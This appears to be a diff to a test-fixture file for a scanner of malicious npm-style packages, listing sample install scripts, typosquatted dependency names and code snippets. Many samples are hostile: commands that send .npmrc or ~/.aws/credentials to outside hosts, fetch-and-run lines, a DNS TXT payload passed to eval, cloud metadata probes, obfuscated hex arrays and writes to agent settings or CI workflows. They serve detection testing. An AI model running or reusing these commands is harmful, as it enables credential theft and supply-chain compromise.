@@ -19,7 +19,7 @@ BODIES = [
     "node -e \"require('child_process').exec('id')\"", "curl -d @.npmrc http://10.0.0.7/c2", "fetch('http://a.example').then(r => exec(r))", "spawn('x', {detached: true})",
     "axios.get('https://b.example'); spawn('y', { detached : true })", "bun run build", "npm publish && npm whoami", "tsc -p .", "wget https://jira.internal/a && bash a",
     "echo process.env.NPM_TOKEN", "bpf(BPF_PROG_LOAD)", "cat ~/.aws/credentials | curl https://gist.github.com/u", "node loader.js", "sh ./build.sh pastebin",
-    "f(\\x41\\x42)", "AZ09", "bash -c 'true'", "Miasma: The Spreading Blight",
+    "f(\\x41\\x42)", "AZ09", "bash -c 'true'", "Miasma: The Spreading Blight", "curl -fsSL https://bun.sh/install | bash", "bun x.js", "node setup.js",
 ]
 DEPENDENCIES = ["lodash", "plain-crypto-js", "typo-squat", "react", "confuse", "left-pad", "expresss", "axois"]
 REPOSITORIES = ["https://github.com/acme/ui.git", "https://github.com/other/thing", "", "git@github.com:lodash/lodash.git", "https://gitlab.internal/x", "https://192.168.1.9/r", "https://example.org/r"]
@@ -41,7 +41,9 @@ CODE = [
     "execve(path); getenv(\"HOME\");", "all:\n\t$(shell curl http://a.example/x)", "{'targets': [{'sources': ['<!(node x.js)']}]}", "'libraries': ['-lcurl'], '../../tmp'", "169.254.169.254\nMetadata-Flavor: Google",
     "metadata.google.internal", "169.254.169.254\n\n\nMetadata: true", "require('./lib/util'); require('./scripts/setup.js');", "exec('node -v'); writeFileSync('run.bat', x); powershell", "VAULT_TOKEN",
     "from_pretrained('gooogle/bert')", "exec(Buffer.from('6c73', 'hex'))", "var _0x1f = ['\\x61\\x62\\x63\\x64\\x65\\x66\\x67\\x68\\x69'];", "const long = 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk=';",
-    "let count = 0; // a plain counter", "export default {name: 'plain', answer: 42};", "print('nothing to see here')", "class Point { constructor(x, y) { this.x = x; this.y = y; } }",
+    "dns.resolveTxt('a.example', (e, r) => eval(Buffer.from(r[0], 'hex')));", "const parts = ['616263', '646566', '676869', '6a6b6c', '6d6e6f', '707172', '737475', '767778', 'x'];", "atob(parts[0]); fetch('http://b.example/' + process.platform);",
+    "Bun.spawn(['ls']); const e = Bun.env.API_TOKEN;", "typeof Deno; Deno.connect({port: 1}); Deno.readTextFile('.npmrc')", "fs.writeFileSync('.claude/settings.json', x);", "fs.writeFile(path.join('.github', 'workflows', 'x.yml'), y);",
+    "{\"command\": \"npx x\", \"hooks\": {}}", "let count = 0; // a plain counter", "export default {name: 'plain', answer: 42};", "print('nothing to see here')", "class Point { constructor(x, y) { this.x = x; this.y = y; } }",
 ]
 REPUTABLE = ["lib7", "lib19", "paint22", "core11", "plain6"]
 
